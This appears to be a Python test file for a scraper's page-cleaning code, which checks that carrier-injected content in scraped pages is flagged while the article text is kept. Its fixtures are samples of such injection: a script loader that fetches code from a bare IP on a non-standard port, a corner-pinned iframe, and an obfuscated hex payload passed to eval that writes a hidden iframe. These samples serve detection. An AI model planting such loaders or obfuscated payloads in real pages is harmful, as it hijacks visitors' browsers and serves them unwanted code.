"""What a carrier injects into pages in transit (v46 B2, B4, B6/B7) flags the page, and the article
underneath is still read: a loader that re-inserts the page's script and then loads an ad script
from a bare IP address on a port of its own; a frame pinned into a corner of the window from a
host nothing else names; a hex byte payload split on any one separator ("70_6d_…"), decoded to the
hidden frame it writes. A site's own corner widget, a centred popup, a vendor the page names and
an ordinary script on an IP without a port stay clean."""
from __future__ import annotations

from scraper.clean import clean_page
from scraper.clean.behaviour import bare_ip_port
from scraper.clean.loaders import decode_script
from tests.clean.conftest import kinds
from tests.clean.test_structural import BODY, URL, page

ARTICLE = "城乡环境综合整治是一项民心工程"
CARRIER = ("<script>(function(){o='http://static.brookvale-t.com/js/app.js?';sh='http://61.160.200.223:7701/main.js?v=3';"
           "d=document;function ins(s,dm,id){var e=d.createElement('script');e.src=s;id?e.id=id:null;dm.appendChild(e);}"
           "ins(o,d.getElementsByTagName('head')[0]);ins(sh,d.body,'bdstat');})();</script>")
CORNER = "position:fixed;right:0px;bottom:0px;"


def _where(a, words: str) -> bool:
    return any(words in f.where for f in a.findings)


def test_a_carrier_loader_of_code_from_a_bare_ip_and_port_flags_the_page():
    a = clean_page(page(body=BODY + CARRIER), url=URL)
    assert a.hijacked and _where(a, "bare IP address on a port of its own"), a.findings
    assert ARTICLE in a.text


def test_code_from_an_ip_without_a_port_or_a_private_one_is_not_that_shape():
    assert bare_ip_port("http://115.239.138.132:7701/public.lib.main.js")
    assert not bare_ip_port("http://69.20.59.218/openads/adx.js")  # a banner server on an IP: clean pages do
    assert not bare_ip_port("https://45.79.163.254:443/x.js")  # the scheme's own port
    assert not bare_ip_port("http://192.168.1.20:8080/stat.js")  # an intranet's own server
    assert not bare_ip_port("http://cdn.brookvale-t.com:8080/a.js")


def test_a_frame_pinned_into_a_corner_from_an_unnamed_host_flags_the_page():
    frame = f'<iframe width="300" height="300" src="http://115.29.78.189/iiad/iiad.html" style="{CORNER}"></iframe>'
    a = clean_page(page(body=BODY + frame), url=URL)
    assert a.hijacked and _where(a, "pinned into a corner"), a.findings
    assert "spam_link" in kinds(a)
    assert ARTICLE in a.text
    boxed = ('<div style="position:fixed;z-index:2147483647;bottom:0px;right:0px">'
             '<iframe src="http://notice.brookvale-t.com.tr/n.html" style="width:300px;height:370px"></iframe></div>')
    assert clean_page(page(body=BODY + boxed), url=URL).hijacked


def test_a_centred_popup_a_chat_widget_and_a_named_vendor_stay_clean():
    popup = ('<div style="z-index:999910;position:fixed;left:153px;top:129.5px;">'
             '<iframe src="https://letters.brookvale-t.com/embed" width="480" height="320"></iframe></div>')
    chat = ('<iframe src="https://chat.brookvale-t.io/widget" style="position:fixed;right:24px;bottom:0px;'
            'z-index:2147483639"></iframe>')
    named = ('<script src="https://kefu.brookvale-t.net/sdk.js"></script>'
             f'<iframe src="https://kefu.brookvale-t.net/panel.html" style="{CORNER}"></iframe>')
    for extra in (popup, chat, named):
        a = clean_page(page(body=BODY + extra), url=URL)
        assert not a.hijacked, (extra, a.findings)


def test_a_hex_payload_split_on_another_separator_is_decoded():
    code = "if(navigator.userAgent.indexOf('MSIE')>0){document.write('<iframe src=\"http://a.brookvale-t.com/q.php\">');}"
    payload = "_".join(f"{ord(c) + 7:x}" for c in code)
    d = decode_script(f'e=eval;try{{--document["body"]}}catch(q){{a2="_";sa=7;}}z="{payload}";')
    assert "a.brookvale-t.com/q.php" in d.text


def test_a_site_served_from_its_own_ip_and_port_loading_its_own_code_is_clean():
    own = "http://202.101.8.34:8080/info/2024/0316/2.htm"
    loader = ("<script>var s=document.createElement('script');s.src='http://202.101.8.34:8080/js/stat.js';"
              "document.body.appendChild(s);</script>")
    a = clean_page(page(body=BODY + loader), url=own)
    assert not a.hijacked, a.findings
